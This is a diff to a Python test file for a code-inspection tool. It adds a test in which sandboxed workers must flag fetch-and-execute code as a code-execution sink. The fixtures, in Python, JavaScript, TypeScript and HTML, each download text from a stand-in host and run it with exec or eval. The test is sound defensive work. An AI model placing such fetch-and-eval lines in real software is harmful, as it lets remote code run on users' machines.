@@ -14,7 +14,7 @@ import pytest
 
 from sekisho.inspection import worker
 from sekisho.inspection.extract import extract
-from sekisho.inspection.findings import Findings
+from sekisho.inspection.findings import Findings, Sink
 from sekisho.inspection.inspect import inspect
 from sekisho.inspection.pool import Task, pool
 from sekisho.inspection.rules.chain import Verdict
@@ -162,6 +162,24 @@ def test_a_broken_worker_costs_one_file(code: str, monkeypatch: pytest.MonkeyPat
     assert first.language == "unread"
     assert first.gaps[0].file == "a.py"
     assert second.language == "python"
+
+
+LANGUAGES = {  # each grammar and each kind of reader must work without opening anything
+    "a.py": b"import requests\nexec(requests.get('https://a.invalid').text)\n",
+    "b.py": b"import urllib2\nexec urllib2.urlopen('https://a.invalid').read()\n",
+    "a.js": b"fetch('https://a.invalid').then(r => r.text()).then(t => eval(t));\n",
+    "a.ts": b"const t: string = await (await fetch('https://a.invalid')).text(); eval(t);\n",
+    "a.tsx": b"const t = await (await fetch('https://a.invalid')).text(); eval(t); const x = <a>b</a>;\n",
+    "a.html": b"<script>fetch('https://a.invalid').then(r => r.text()).then(t => eval(t));</script>\n",
+}
+
+
+@pytest.mark.parametrize(("name", "data"), LANGUAGES.items(), ids=LANGUAGES)
+def test_a_confined_worker_reads_every_language(name: str, data: bytes) -> None:
+    with pool(1) as readers:
+        (found,) = readers.read([Task(VirtualFile(name, data))])
+    assert [flow.sink for flow in found.flows] == [Sink.CODE]
+    assert found.gaps == ()
 
 
 WRONG = {
